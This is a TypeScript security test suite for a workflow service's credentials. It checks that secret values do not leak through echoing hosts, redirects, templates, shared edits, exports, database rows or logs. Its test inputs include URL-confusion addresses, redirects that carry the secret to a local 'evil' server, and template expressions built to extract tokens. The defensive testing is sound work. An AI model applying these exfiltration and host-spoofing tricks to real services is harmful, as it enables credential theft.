/** Attempts to get at the value of a credential, or to have it sent to somebody else. */
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, suite, test } from 'node:test';
import pg from 'pg';
import type { Credential, CredentialTestResult, CredentialUsers } from '../../src/credentials/schemas.ts';
import type { Run } from '../../src/runs/schemas.ts';
import { chain, node } from '../support/definitions.ts';
import { createWorkflow, readStepOutput, runOnce } from '../support/runs.ts';
import { type Person, testService } from '../support/service.ts';
import { type ApiServer, openApiServer } from './credential-servers.ts';
import { memoryLog } from './memory-log.ts';
import { poll } from './poll.ts';

const { log, text: readLog } = memoryLog();
const service = await testService({ HEDDLE_ALLOW_PRIVATE_ADDRESSES: '127.0.0.0/8' }, { log });
const [api, evil] = [await openApiServer({ after }), await openApiServer({ after })];
const [ann, eve] = [await service.person(), await service.person()];
/** In each reply and row, this would be found literally, and also as base64, hexadecimal and percent-encoded. */
const VALUE = 'p4ss/w0rd+"q"&of ann';

const PATH = '/api/v1/credential';
const SHARED = { sharing: [{ user_email: eve.email, write: true }] };
const hostOf = ({ url }: ApiServer) => new URL(url).host;

let count = 0;
async function create(kind: string, fields: object, given: object = {}): Promise<Credential> {
  const body = { name: `secret_${++count}`, kind, hosts: [api.url], fields, ...given };
  return service.ask<Credential>(`${PATH}/create`, body, ann.key);
}

const request = (params: object) => chain(node('call', 'http.request', { url: api.url, ...params }));
const send = (params: object, who: Person = ann) => runOnce(service, request(params), {}, who.key);

/** Whoever finds one of these has the value. */
const FORMS = [
  VALUE,
  JSON.stringify(VALUE).slice(1, -1),
  encodeURIComponent(VALUE),
  Buffer.from(VALUE).toString('base64').replace(/=+$/, ''),
  Buffer.from(VALUE).toString('hex'),
  Buffer.from(`ann:${VALUE}`).toString('base64').replace(/=+$/, ''),
];
const leaks = (text: string) => FORMS.filter(form => text.includes(form));

async function dumpDatabase(): Promise<string> {
  const client = new pg.Client(service.database.address);
  await client.connect();
  try {
    const { rows: tables } = await client.query<{ name: string }>(
      "SELECT format('%I', tablename) AS name FROM pg_tables WHERE schemaname = 'public'",
    );
    const dumps = [];
    for (const { name } of tables) {
      const { rows } = await client.query<{ text: string }>(`SELECT each::text AS text FROM ${name} AS each`);
      dumps.push(...rows.map(({ text }) => text));
    }
    return dumps.join('\n');
  } finally {
    await client.end();
  }
}

async function readDataFolder(): Promise<string> {
  const names = await readdir(service.dataFolder, { recursive: true, withFileTypes: true });
  const files = names.filter(entry => entry.isFile()).map(entry => path.join(entry.parentPath, entry.name));
  const texts = await Promise.all(files.map(file => readFile(file, 'latin1').catch(() => '')));
  return texts.join('\n');
}

suite('a host that repeats what it gets', () => {
  /** Each puts the value into another part of the reply. */
  const echoes: Record<string, ApiServer['answer']> = {
    'in its body': ({ headers }, response) => response.end(`you sent ${headers.authorization}`),
    'in JSON, as a key and a value': ({ headers }, response) => {
      const { authorization = '' } = headers;
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ [authorization]: [authorization, { deep: authorization }] }));
    },
    'in its headers': ({ headers }, response) => {
      response
        .setHeader('x-echo', headers.authorization ?? '')
        .setHeader('www-authenticate', headers.authorization ?? '');
      response.end('ok');
    },
    'in an error': ({ headers }, response) => response.writeHead(403).end(`${headers.authorization} is wrong`),
    'in a long error, where it would be cut': ({ headers }, response) => {
      response.writeHead(500).end(`${'x'.repeat(495)}${headers.authorization}`);
    },
    'in a file': ({ headers }, response) => {
      response.setHeader('content-type', 'application/octet-stream');
      response.end(Buffer.concat([Buffer.from([0, 255, 1]), Buffer.from(headers.authorization ?? '')]));
    },
    'as base64': ({ headers }, response) => {
      response.end(Buffer.from(`> ${headers.authorization?.split(' ')[1]}`).toString('base64'));
    },
    decoded: ({ headers }, response) => {
      response.end(Buffer.from(headers.authorization?.split(' ')[1] ?? '', 'base64'));
    },
    'in a redirect to itself': ({ headers, url }, response) => {
      if (url.startsWith('/seen')) return void response.end(`you came from ${url}`);
      const location = `/seen?${encodeURIComponent(headers.authorization ?? '')}`;
      response.writeHead(302, { location }).end();
    },
  };
  for (const [where, answer] of Object.entries(echoes)) {
    test(`${where} gives nothing to the author of the workflow`, async () => {
      const { name } = await create('basic', { username: 'ann', password: VALUE });
      api.answer = answer;
      const run = await send({ credential: name });
      assert.deepEqual(leaks(JSON.stringify(run)), []);
      assert.ok(api.last().headers.authorization ?? api.received.at(-2)?.headers.authorization);
    });
  }

  test('of a marker gives nothing to the author of the workflow', async () => {
    const { name } = await create('generic', { token: VALUE });
    api.answer = ({ url, body, headers }, response) => response.end(`${url} ${body} ${headers['x-key']}`);
    const token = `{{ secrets.${name}.token }}`;
    const params = { url: `${api.url}/?a=${token}`, method: 'POST', headers: { 'x-key': token }, body: { token } };
    const run = await send(params);
    assert.equal(run.status, 'success', run.error);
    assert.match(
      String((readStepOutput(run, 'call') as { body: unknown }).body),
      /^\/\?a=\[secret\] .*\[secret\].*\[secret\]$/,
    );
    assert.deepEqual(leaks(JSON.stringify(run)), []);
  });
});

suite('another host', () => {
  test('gets no request with a credential that does not name it', async () => {
    const { id, name } = await create('bearer', { token: VALUE });
    const seen = evil.received.length;
    const run = await send({ url: evil.url, credential: name });
    assert.equal(run.error, `The credential '${name}' may not be sent to '${hostOf(evil)}'`);
    assert.equal(evil.received.length, seen);
    const users = await poll(async () => {
      const found = await service.ask<CredentialUsers>(`${PATH}/uses`, { id }, ann.key);
      return found.recent.length > 0 ? found : undefined;
    });
    assert.partialDeepStrictEqual(users.recent, [{ host: hostOf(evil), count: 0, refused: 1 }]);
  });

  test('gets no request with a marker', async () => {
    const { name } = await create('generic', { token: VALUE });
    const token = `{{ secrets.${name}.token }}`;
    const seen = evil.received.length;
    for (const params of [
      { url: `${evil.url}/${token}` },
      { headers: { 'x-key': token } },
      { method: 'POST', body: token },
    ]) {
      const run = await send({ url: evil.url, ...params });
      assert.equal(run.error, `The credential '${name}' may not be sent to '${hostOf(evil)}'`);
    }
    assert.equal(evil.received.length, seen);
  });

  test('that only looks like an allowed one gets nothing', async () => {
    const { id } = await create('bearer', { token: VALUE });
    const { port } = new URL(api.url);
    const seen = [api.received.length, evil.received.length];
    for (const url of [
      `http://127.0.0.1:${port}@${hostOf(evil)}/`,
      `http://${hostOf(evil)}/http://127.0.0.1:${port}`,
      `http://127.0.0.1.:1/`,
      `http://127.0.0.2:${port}/`,
      `https://127.0.0.1:${port}/`,
      `http://localhost:${port}/`,
      `http://127.0.0.1:${port}\\@${hostOf(evil)}`,
      `http://127.0.0.1:${port}#@${hostOf(evil)}/`,
    ].slice(0, -2)) {
      const { ok } = await service.ask<CredentialTestResult>(`${PATH}/test`, { id, url }, ann.key);
      assert.equal(ok, false, url);
    }
    assert.deepEqual([api.received.length, evil.received.length], seen);
    // Both of these lead to the allowed host, whatever they look like.
    for (const url of [`http://127.0.0.1:${port}\\@${hostOf(evil)}`, `http://127.0.0.1:${port}#@${hostOf(evil)}/`]) {
      await service.ask<CredentialTestResult>(`${PATH}/test`, { id, url }, ann.key);
    }
    assert.deepEqual([api.received.length, evil.received.length], [(seen[0] ?? 0) + 2, seen[1]]);
  });

  test('to which an allowed one redirects gets the request without the credential', async () => {
    const { name } = await create('header', { name: 'X-Key', value: VALUE });
    api.answer = (_request, response) => void response.writeHead(307, { location: `${evil.url}/next` }).end();
    const run = await send({ credential: name });
    assert.equal(run.status, 'success', run.error);
    assert.equal(api.last().headers['x-key'], VALUE);
    assert.equal(evil.last().url, '/next');
    assert.deepEqual(leaks(JSON.stringify(evil.last())), []);
  });

  test('to which an allowed one redirects with the value in the address gets nothing', async () => {
    const { name } = await create('header', { name: 'X-Key', value: VALUE });
    const seen = evil.received.length;
    for (const leaked of [VALUE, encodeURIComponent(VALUE), Buffer.from(VALUE).toString('base64url')]) {
      api.answer = (_request, response) => void response.writeHead(302, { location: `${evil.url}/?k=${leaked}` }).end();
      const run = await send({ credential: name });
      assert.equal(run.error, `The redirect to '${hostOf(evil)}' contains a secret and was not followed`);
      assert.deepEqual(leaks(JSON.stringify(run)), []);
    }
    assert.equal(evil.received.length, seen);
  });

  test('may redirect to itself with the value in the address, also when other credentials were used', async () => {
    const { name } = await create('query', { name: 'key', value: VALUE });
    const other = await create('generic', { token: 'another-value' }, { hosts: [api.url, 'api.example.org'] });
    api.answer = ({ url }, response) => {
      if (url.startsWith('/next')) return void response.end('ok');
      response.writeHead(302, { location: `/next${url}` }).end();
    };
    const run = await send({ credential: name, headers: { 'x-other': `{{ secrets.${other.name}.token }}` } });
    assert.equal(run.status, 'success', run.error);
    assert.equal(api.last().url, `/next/?key=${encodeURIComponent(VALUE)}`);
    assert.deepEqual(leaks(JSON.stringify(run)), []);
  });

  test('gets no body with a marker by a redirect that keeps the body', async () => {
    const { name } = await create('generic', { token: VALUE });
    const seen = evil.received.length;
    api.answer = (_request, response) => void response.writeHead(308, { location: evil.url }).end();
    const run = await send({ method: 'POST', body: { token: `{{ secrets.${name}.token }}` } });
    assert.equal(run.error, `The credential '${name}' may not be sent to '${hostOf(evil)}'`);
    assert.equal(evil.received.length, seen);
  });

  test('of the name of an allowed one, at an address that the name got since, is not connected to', async () => {
    // The credential is attached after the addresses were checked, and the connection goes to exactly these: see
    // `outbound.test.ts`. Here the name has a private address that is not allowed.
    const { id } = await create('bearer', { token: VALUE }, { hosts: ['http://[::1]:9'] });
    const tested = await service.ask<CredentialTestResult>(`${PATH}/test`, { id }, ann.key);
    assert.deepEqual(tested, { ok: false, status: null, message: "The address of '[::1]' is not public" });
  });
});

suite('somebody who may change a credential of another', () => {
  test('can not send its value to a host of their own', async () => {
    const { id, name } = await create('header', { name: 'X-Key', value: VALUE }, SHARED);
    const update = (given: object) => service.call(`${PATH}/update`, { id, ...given }, eve.key);
    const refused = { detail: 'To allow another host, enter the secret fields again' };
    assert.deepEqual((await update({ hosts: [evil.url] })).body, refused);
    assert.deepEqual((await update({ hosts: [api.url, evil.url] })).body, refused);
    assert.deepEqual((await update({ hosts: [evil.url], fields: { prefix: 'x' } })).body, refused);
    assert.deepEqual((await update({ hosts: [evil.url], fields: { value: '' } })).status, 422);
    // With a value of their own, they send only that.
    assert.equal((await update({ hosts: [evil.url], fields: { value: 'my own value' } })).status, 200);
    await service.ask<CredentialTestResult>(`${PATH}/test`, { id }, eve.key);
    assert.equal(evil.last().headers['x-key'], 'my own value');
    await assert.rejects(service.ask(`${PATH}/update`, { id, hosts: [api.url], name }, eve.key));
  });

  test('gets no other value by changes at the same time', async () => {
    const { id, version } = await create('header', { name: 'X-Key', value: VALUE }, SHARED);
    const update = (given: object) => service.call(`${PATH}/update`, { id, ...given }, eve.key);
    const seen = evil.received.length;
    await Promise.all([
      update({ hosts: [evil.url] }),
      update({ fields: { value: 'my own value' } }),
      update({ hosts: [evil.url], fields: { value: 'my own value' } }),
      // Ann means the credential as she knows it: once Eve has allowed another host, hers is refused.
      service.call(`${PATH}/update`, { id, fields: { value: VALUE }, if_version: version }, ann.key),
      ...[1, 2, 3].map(() => service.call(`${PATH}/test`, { id, url: evil.url }, eve.key)),
    ]);
    await service.call(`${PATH}/test`, { id, url: evil.url }, eve.key);
    assert.deepEqual(leaks(JSON.stringify(evil.received.slice(seen))), []);
  });

  test('can not change whose it is, its kind, or what is sealed', async () => {
    const { id } = await create('bearer', { token: VALUE }, SHARED);
    const before = await service.ask<Credential>(`${PATH}/get`, { id }, ann.key);
    const sent = {
      id,
      kind: 'generic',
      created_by: eve.id,
      owner: { user_id: eve.id },
      sealed: '',
      version: 7,
      state: 'x',
    };
    assert.deepEqual(await service.ask(`${PATH}/update`, sent, eve.key), before);
  });
});

suite('somebody without a right', () => {
  test('can not use the credential of another by its id or name, in any place', async () => {
    const { id, name } = await create('generic', { token: VALUE });
    const seen = api.received.length;
    for (const params of [
      { credential: id },
      { credential: name },
      { headers: { 'x-key': `{{ secrets['${id}'].token }}` } },
      { headers: { 'x-key': `{{ secrets.${name}.token }}` } },
    ]) {
      const workflow_id = await createWorkflow(service, request(params), eve.key);
      const { body } = await service.call('/api/v3/workflow/run', { workflow_id, input: {} }, eve.key);
      assert.doesNotMatch(JSON.stringify(body), /"status":"success"/);
      assert.match(JSON.stringify(body), /does not exist or may not be used/);
    }
    assert.equal(api.received.length, seen);
  });

  test('can not use it in a workflow that is shared with them', async () => {
    const { name } = await create('bearer', { token: VALUE });
    const more = { sharing: [{ user_email: eve.email, write: false, scopes: { 'workflow.run': true } }] };
    const workflow_id = await createWorkflow(service, request({ credential: name }), ann.key, more);
    assert.equal(
      (await service.ask<Run>('/api/v3/workflow/run', { workflow_id, input: {} }, ann.key)).status,
      'success',
    );
    const seen = api.received.length;
    const { body } = await service.call('/api/v3/workflow/run', { workflow_id, input: {} }, eve.key);
    assert.match(JSON.stringify(body), /does not exist or may not be used/);
    assert.equal(api.received.length, seen);
  });
});

suite('templates', () => {
  test('never see a value: only a marker, which nothing computes with', async () => {
    const { name } = await create('generic', { token: VALUE });
    api.answer = (_request, response) => response.end('ok');
    for (const template of [
      `{{ secrets.${name}.token | upper }}`,
      `{{ secrets.${name}.token[0] }}`,
      `{{ secrets.${name} | tojson }}`,
      `{{ secrets | tojson }}`,
      `{% if secrets.${name}.token == 'x' %}1{% endif %}`,
      `{% set a = secrets.${name}.token %}{{ a | length }}`,
    ]) {
      const seen = api.received.length;
      const workflow_id = await createWorkflow(service, request({ headers: { 'x-key': template } }), ann.key);
      const { body } = await service.call('/api/v3/workflow/run', { workflow_id, input: {} }, ann.key);
      assert.doesNotMatch(JSON.stringify(body), /"status":"success"/, template);
      assert.deepEqual(leaks(JSON.stringify(body)), []);
      assert.equal(api.received.length, seen);
    }
  });

  test('of steps that send nothing can not name one', async () => {
    const { name } = await create('generic', { token: VALUE });
    for (const [type, params] of [
      ['transform', { value: `{{ secrets.${name}.token }}` }],
      ['output', { value: `{{ secrets.${name}.token }}` }],
      ['condition', { expression: `secrets.${name}.token == 'x'` }],
    ] as const) {
      const workflow_id = await createWorkflow(service, chain(node('call', type, params)), ann.key);
      const { body } = await service.call('/api/v3/workflow/run', { workflow_id, input: {} }, ann.key);
      assert.match(JSON.stringify(body), /uses a secret, which only steps that send requests or call tools may do/);
    }
  });
});

test('the stream of a run and the export of a workflow have no value in them', async () => {
  const { name } = await create('basic', { username: 'ann', password: VALUE });
  api.answer = ({ headers }, response) => response.end(`${headers.authorization}`);
  const workflow_id = await createWorkflow(service, request({ credential: name }), ann.key);
  const stream = await fetch(`${service.url}/api/v3/workflow/run/stream`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'uni-api-key': ann.key },
    body: JSON.stringify({ workflow_id, input: {} }),
  });
  const events = await stream.text();
  assert.match(events, /\[secret\]/);
  assert.deepEqual(leaks(events), []);
  const exported = await service.call('/api/v3/workflow/export', { workflow_id }, ann.key);
  assert.equal(exported.status, 200, JSON.stringify(exported.body));
  assert.match(JSON.stringify(exported.body), new RegExp(`"name":"${name}"`));
  assert.deepEqual(leaks(JSON.stringify(exported.body)), []);
});

test('no reply, row, file or log line has a value in it', async () => {
  const { id, name } = await create('basic', { username: 'ann', password: VALUE });
  api.answer = ({ headers }, response) => response.writeHead(500).end(`${headers.authorization} ${VALUE}`);
  const run: Run = await send({ credential: name });
  const replies: unknown[] = [
    run,
    ...(await Promise.all(
      ['get', 'uses', 'test'].map(each => service.call(`${PATH}/${each}`, { id }, ann.key).then(({ body }) => body)),
    )),
    (await service.call(`${PATH}/find`, {}, ann.key)).body,
    (await service.call(`${PATH}/find`, {})).body,
    (await service.call(`${PATH}/create`, { name, kind: 'bearer', hosts: ['x'], fields: { tokn: VALUE } }, ann.key))
      .body,
    (await service.call(`${PATH}/update`, { id, fields: { password: [VALUE] } }, ann.key)).body,
    (await service.call(`${PATH}/update`, { id, name, hosts: ['*.com'], fields: { password: VALUE } }, ann.key)).body,
    (await service.call('/api/v1/audit/find', {})).body,
    (await service.call('/api/v3/workflow/find', {}, ann.key)).body,
  ];
  assert.deepEqual(leaks(JSON.stringify(replies)), []);
  await poll(async () => {
    const { last_used_at } = await service.ask<Credential>(`${PATH}/get`, { id }, ann.key);
    return last_used_at ?? undefined;
  });
  assert.deepEqual(leaks(await dumpDatabase()), []);
  assert.deepEqual(leaks(await readDataFolder()), []);
  assert.match(readLog(), /credential/);
  // Lines of the log are JSON, in which quotes are escaped once more.
  assert.deepEqual(leaks(readLog()), []);
});
